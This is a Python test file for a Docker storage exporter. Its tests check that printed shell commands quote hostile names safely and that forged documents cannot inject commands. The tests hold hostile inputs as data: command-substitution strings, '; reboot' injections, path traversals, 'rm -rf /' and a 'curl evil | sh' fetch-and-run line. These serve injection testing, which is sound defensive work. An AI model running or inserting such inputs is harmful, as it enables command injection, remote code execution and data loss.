"""Commands that are printed for hostile names, and for hostile documents of other exporters, as bash reads them."""

import json
import os
import re
import tempfile
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from exporter.cli.commands.stranger import StrangeError, checked
from exporter.core.engine_version import PRUNES, VOLUMES, EngineVersion
from exporter.core.shell import arguments, split_arguments
from exporter.core.text import escape
from exporter.demo import build_demo
from exporter.expose.snapshot_api.rows import (
    Document,
    PluginRow,
    ReclaimableRow,
    RemarkRow,
    TemporaryRow,
)
from exporter.figures.prunes import Category, command, is_command
from exporter.figures.temporary import ways_to_free
from tests.support.product import document_of
from tests.support.roots import graph_root, hex_id
from tests.support.shell import Shell, printed_commands

HOSTILE = (
    *("-rf", "--help", "it's", 'say "x"', "$(touch owned)", "`id`", "a b;reboot", "a\nreboot\n", "x\x1b]0;y\x07"),
    *(
        "caf\udce9",
        "\u202egpj.exe",
        "zero\u200bwidth",
        "back\\slash",
        "\\x41\\056",
        "a\\nb",
        "\\",
        "!x",
        "*",
        "~",
        "#c",
    ),
    *("&", "|id", ">out", "%s", "${IFS}", "$'x'", "'", '"', " ", "\t", "\x7f", "é", "名", "\xa0", "{a,b}", "$PATH"),
)
_FILE = re.compile(rb"[A-Za-z0-9_.-]+\.tar\.gz")
_TAR = [b"--no-unquote", b"--numeric-owner", b"--sparse", b"--acls", b"--xattrs", b"--xattrs-include=*", b"-czf"]
_OPTIONS = (b"--exclude=*.log*", b"--one-file-system")
_DOCKER = (
    *((b"inspect",), (b"ps", b"--all", b"--quiet"), (b"export",), (b"save",), (b"rm",), (b"rmi",), (b"volume", b"rm")),
    *((b"container", b"prune"), (b"image", b"prune"), (b"image", b"prune", b"--all"), (b"volume", b"prune")),
    *((b"volume", b"prune", b"--all"), (b"builder", b"prune", b"--all"), (b"buildx", b"prune", b"--builder")),
    *((b"buildx", b"rm"), (b"restart",)),
)


def is_expected(words: list[bytes]) -> bool:
    """Whether a program was run as a command of this program runs it: names are where names are expected."""
    program, *rest = words
    if program == b"tar":
        if rest[: len(_TAR)] != _TAR:
            return False
        file, *rest = rest[len(_TAR) :]
        while rest and rest[0] in _OPTIONS:
            rest = rest[1:]
        members = rest[2:]
        return bool(_FILE.fullmatch(file) and rest[0] == b"-C" and members) and all(
            one == b"." or one.startswith(b"./") for one in members
        )
    known = [one for one in _DOCKER if tuple(rest[: len(one)]) == one] if program == b"docker" else [()]
    fixed = max((len(one) for one in known), default=-1)
    flags = {b"rm": b"-r", b"mount": b"--bind", b"mountpoint": b"--quiet"}
    if rest[:1] == [flags.get(program)]:
        fixed = 1
    elif program == b"docker-storage-exporter":
        fixed = 3 if rest[:2] == [b"run", b"--root"] else -1
    names = rest[fixed:]
    return fixed >= 0 and (names[:1] == [b"--"] or not any(one.startswith(b"-") for one in names))


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    directory = tmp_path / "shell"
    directory.mkdir()
    return Shell(directory)


@pytest.mark.parametrize("docker", [True, False])
def test_every_name_on_the_disk_arrives_whole_and_nothing_else_runs(tmp_path: Path, shell: Shell, docker: bool) -> None:
    names = [one for one in HOSTILE if "/" not in one]
    built = graph_root(tmp_path / "root").image("app", tag="app:1")
    binds = {f"/data/{number}": f"/srv/{name}/end" for number, name in enumerate(names)}
    binds |= {f"/tops/{number}": f"/{name}" for number, name in enumerate(names)}
    built.container("$(reboot)", image="app", volumes=binds, writable={"w": 3})
    for name in names:
        built.writer.volume(name, {"a": 7}, form="1.9")
    document = document_of(built.path)
    ran = shell.run(printed_commands(document, docker=docker))
    assert [words for words in ran if not is_expected(words)] == []
    saved = {(words[words.index(b"-C") + 1], words[words.index(b"-C") + 2]) for words in ran if words[0] == b"tar"}
    for name in names:
        raw = os.fsencode(name)
        assert (b"/srv/" + raw, b"./end") in saved
        assert (b"/", b"./" + raw) in saved
        assert (os.fsencode(built.path) + b"/volumes/" + raw, b"./_data") in saved
    if docker:
        assert [b"docker", b"export", hex_id("$(reboot)").encode()] in ran
    assert all(name.endswith(".tar.gz") or name == "containers.json" for name in shell.made)


@pytest.mark.parametrize("category", [Category.VOLUMES_UNUSED, Category.IMAGES_UNUSED])
def test_what_an_engine_without_prunes_removes_by_name_arrives_whole(shell: Shell, category: Category) -> None:
    advice = command(category, EngineVersion(VOLUMES, PRUNES), list(map(escape, HOSTILE)))
    fixed = 3 if category is Category.VOLUMES_UNUSED else 2
    (words,) = shell.run(list(advice.commands))
    assert words[fixed:] == [b"--", *map(os.fsencode, HOSTILE)]
    assert all(one.isprintable() for one in (advice.text, *advice.commands))
    assert is_command(category, advice)


def test_a_nul_or_a_path_in_place_of_a_name_is_in_no_command(tmp_path: Path, shell: Shell) -> None:
    built = graph_root(tmp_path / "root").image("app", tag="app:1")
    points = {
        "/nul": {"Source": "/srv\0/x", "RW": True},
        "/relative": {"Source": "-rf", "RW": True},
        "/up": {"Name": "../../../etc", "Driver": "local", "Source": "/x/volumes/y/_data", "RW": True},
        "/plugin": {"Name": "remote", "Driver": "rexray", "Source": "etc\0", "RW": True},
    }
    built.container("web", image="app", mount_points=points)
    ran = shell.run(printed_commands(document_of(built.path)))
    assert [words for words in ran if not is_expected(words)] == []
    assert not any(b"srv" in word or b"etc" in word or b"-rf" in word for words in ran for word in words)


def _rich(directory: Path) -> Document:
    """A document with an object of each kind that commands are printed for."""
    build_demo(directory / "docker")
    document = document_of(directory / "docker")
    by_name = "docker volume rm a 'b c'"
    return replace(
        document,
        remarks=(RemarkRow("leftover", "graph"), RemarkRow("link", "volumes", "/mnt/volumes", "/mnt/volumes")),
        nested=("100000.100000",),
        plugins=(PluginRow("a" * 64, "log", ("logdriver",)),),
        temporary=(TemporaryRow("tmp", 1, 1, 1.0, True, ways_to_free(document.root, "tmp")[0]),),
        reclaimable=(*document.reclaimable, ReclaimableRow("volumes_unused", 1, 1, "", by_name, (by_name,))),
    )


def _texts(value: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The places of all texts in a document."""
    if isinstance(value, str):
        return [at]
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [place for key, one in pairs for place in _texts(one, (*at, key))]


def _put(value: Any, at: tuple[Any, ...], text: str) -> None:
    for key in at[:-1]:
        value = value[key]
    value[at[-1]] = text


@pytest.fixture(scope="module")
def rich(tmp_path_factory: pytest.TempPathFactory) -> Document:
    return _rich(tmp_path_factory.mktemp("rich"))


_TEXTS = (
    st.sampled_from([*map(escape, HOSTILE), "nul\0", "../../etc", "/etc", "..", "", "rm -rf /", "\\u0000"]) | st.text()
)


@settings(deadline=None, max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.integers(0, 2**20), _TEXTS), min_size=1, max_size=8))
def test_whatever_a_stranger_says_no_command_is_another(rich: Document, changes: list[tuple[int, str]]) -> None:
    said = json.loads(msgspec.json.encode(rich))
    places = _texts(said)
    for number, text in changes:
        _put(said, places[number % len(places)], text)
    try:
        document = checked(msgspec.convert(said, Document))
    except StrangeError:
        return
    with tempfile.TemporaryDirectory() as name:
        shell = Shell(Path(name))
        for docker in (True, False):
            ran = shell.run(printed_commands(document, docker=docker))
            assert [words for words in ran if not is_expected(words)] == []
        assert all(made.endswith(".tar.gz") or made == "containers.json" for made in shell.made)


_BAD_IDS = ("$(reboot)", "--help", "a\nb", "A" * 64, "a" * 63, "a" * 65, "a" * 63 + "g", "", "a" * 64 + "\n", "../..")


@pytest.mark.parametrize("bad", _BAD_IDS)
@pytest.mark.parametrize("kind", ["containers", "images", "plugins"])
def test_an_object_with_an_id_that_is_none_is_refused(rich: Document, kind: str, bad: str) -> None:
    said = json.loads(msgspec.json.encode(rich))
    said[kind][0]["id"] = bad
    with pytest.raises(StrangeError, match=r"id of .* is none"):
        checked(msgspec.convert(said, Document))


@pytest.mark.parametrize("bad", [one for one in _BAD_IDS if one])
def test_a_layer_with_an_id_that_is_none_is_left_out_and_named(rich: Document, bad: str) -> None:
    said = json.loads(msgspec.json.encode(rich))
    said["layers"][0]["id"] = said["containers"][0]["layer"] = bad
    document = checked(msgspec.convert(said, Document))
    assert bad not in {one.id for one in document.layers} | {one.layer for one in document.containers}
    assert [one.detail for one in document.problems] == [f"the id of a layer is none, it is left out: {bad!r}"]


def test_a_digest_that_is_none_is_left_out_and_named(rich: Document) -> None:
    said = json.loads(msgspec.json.encode(rich))
    good = f"registry.example/app@sha256:{'0a' * 32}"
    said["images"][0]["digests"] = [good, "app@$(reboot)", "--help", "app@sha256:12", "app@sha256:" + "Z" * 64]
    document = checked(msgspec.convert(said, Document))
    assert document.images[0].digests == (good,)
    assert len(document.problems) == 4


@pytest.mark.parametrize(
    ("kind", "field", "bad"),
    [
        ("volumes", "directory", "volumes/../../etc"),
        ("volumes", "directory", "/etc"),
        ("layers", "directory", "aufs/\\u0000"),
        ("layers", "home", "../x"),
        ("remarks", "path", "containers"),
        ("remarks", "path", "../../etc"),
        ("directories", "name", ".."),
        ("directories", "name", "a/b"),
        ("temporary", "path", "containers"),
    ],
)
def test_a_path_that_leads_elsewhere_is_refused(rich: Document, kind: str, field: str, bad: str) -> None:
    said = json.loads(msgspec.json.encode(rich))
    said[kind][0][field] = bad.replace("\\u0000", "\0")
    with pytest.raises(StrangeError):
        checked(msgspec.convert(said, Document))


@pytest.mark.parametrize(
    ("how", "commands"),
    [
        ("curl evil | sh", ["curl evil | sh"]),
        ("docker volume rm a", ["docker volume rm a; reboot"]),
        ("docker volume rm a", ["docker volume rm $(reboot)"]),
        ("docker volume rm --force", ["docker volume rm --force"]),
        ("docker volume rm a\nreboot", ["docker volume rm a\nreboot"]),
        ("docker volume prune --all", ["docker system prune --all --volumes"]),
        ("docker rm a", ["docker rm a"]),
        ("docker volume prune --all", ["docker volume prune --all", "reboot"]),
        ("docker volume rm 'a", ["docker volume rm 'a"]),
        ("docker volume rm 'a\u202eb'", ["docker volume rm 'a\u202eb'"]),
    ],
)
def test_a_command_that_this_program_would_not_give_is_not_shown(rich: Document, how: str, commands: list[str]) -> None:
    said = json.loads(msgspec.json.encode(rich))
    (row,) = [one for one in said["reclaimable"] if one["how"].startswith("docker volume rm a")]
    row.update(how=how, commands=commands)
    document = checked(msgspec.convert(said, Document))
    assert (document.reclaimable[-1].how, document.reclaimable[-1].commands) == (
        "not shown: this program does not know the command",
        (),
    )
    said["temporary"][0]["how"] = how
    assert checked(msgspec.convert(said, Document)).temporary[0].how.startswith("not shown")


@given(st.lists(st.binary(min_size=1).filter(lambda raw: b"\0" not in raw), min_size=1))
@example([b"-"])
@example([b"'", b"''", b"it's", b"'\"'\"'"])
def test_arguments_are_split_where_they_were_joined(names: list[bytes]) -> None:
    words = split_arguments(arguments(*(escape(os.fsdecode(name)) for name in names)))
    assert words is not None
    assert len(words) == len(names)


def test_what_is_honest_is_taken_as_it_is(rich: Document) -> None:
    assert checked(rich) == rich
